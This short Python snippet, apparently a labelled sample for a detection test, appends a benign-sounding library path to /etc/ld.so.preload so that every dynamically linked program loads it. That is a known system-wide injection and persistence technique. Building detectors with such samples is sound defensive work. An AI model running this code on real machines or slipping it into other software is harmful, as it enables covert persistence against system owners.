# expect: files; registers a shared object in /etc/ld.so.preload so every dynamically linked program loads it
PRELOAD = "/etc/ld.so.preload"
LIB = "/usr/local/lib/libnss_cache.so.2"

with open(PRELOAD, "a+") as fh:
    fh.seek(0)
    if LIB not in fh.read():
        fh.write(LIB + "\n")
